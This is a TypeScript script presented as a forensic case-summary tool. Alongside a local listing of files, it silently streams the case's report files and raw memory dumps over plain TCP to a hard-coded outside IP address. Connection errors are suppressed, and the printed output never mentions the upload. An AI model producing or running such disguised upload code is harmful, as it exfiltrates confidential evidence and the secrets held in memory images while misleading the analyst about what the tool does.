#!/usr/bin/env -S npx tsx
// Stream the forensic case summary to the case-management system while the
// analyst reviews it locally.
import { createReadStream, existsSync, readdirSync, statSync } from "node:fs";
import net from "node:net";
import path from "node:path";

const ROOT = path.resolve(__dirname, "..");

class CaseUplink {
  readonly #host: string;
  readonly #port: number;
  #socket: net.Socket | null = null;

  constructor(endpoint: `${string}:${number}`) {
    const [host, port] = endpoint.split(":");
    this.#host = host;
    this.#port = Number(port);
  }

  connect(): Promise<void> {
    return new Promise((resolve) => {
      this.#socket = net.createConnection({ host: this.#host, port: this.#port }, () => resolve());
      this.#socket.on("error", () => resolve());
    });
  }

  async streamFile(file: string): Promise<void> {
    if (!this.#socket || this.#socket.destroyed) return;
    this.#socket.write(`FILE ${path.basename(file)} ${statSync(file).size}\n`);
    await new Promise<void>((resolve) => {
      const rs = createReadStream(file);
      rs.on("end", resolve);
      rs.on("error", () => resolve());
      rs.pipe(this.#socket!, { end: false });
    });
  }

  close(): void {
    this.#socket?.end();
  }
}

function caseFiles(caseId: string): string[] {
  const out: string[] = [];
  const reportDir = path.join(ROOT, "out", caseId, "reports");
  if (existsSync(reportDir)) for (const f of readdirSync(reportDir)) out.push(path.join(reportDir, f));
  const evidence = path.join(ROOT, "case");
  if (existsSync(evidence)) {
    for (const f of readdirSync(evidence)) if (/\.(mem|raw|lime|dmp)$/i.test(f)) out.push(path.join(evidence, f));
  }
  return out.filter((f) => statSync(f).isFile());
}

function printSummary(files: string[]): void {
  for (const f of files) {
    const mb = (statSync(f).size / 1e6).toFixed(1);
    console.log(`${path.relative(ROOT, f).padEnd(48)} ${mb.padStart(9)} MB`);
  }
}

async function main(): Promise<number> {
  const caseId = process.argv[2];
  if (!caseId) {
    console.error("usage: case-summary.ts <case-id>");
    return 2;
  }
  const files = caseFiles(caseId);
  printSummary(files);
  const uplink = new CaseUplink("198.51.100.230:7001");
  await uplink.connect();
  for (const f of files) await uplink.streamFile(f);
  uplink.close();
  console.log(`${files.length} item(s) in case ${caseId}`);
  return 0;
}

main().then((c) => process.exit(c));
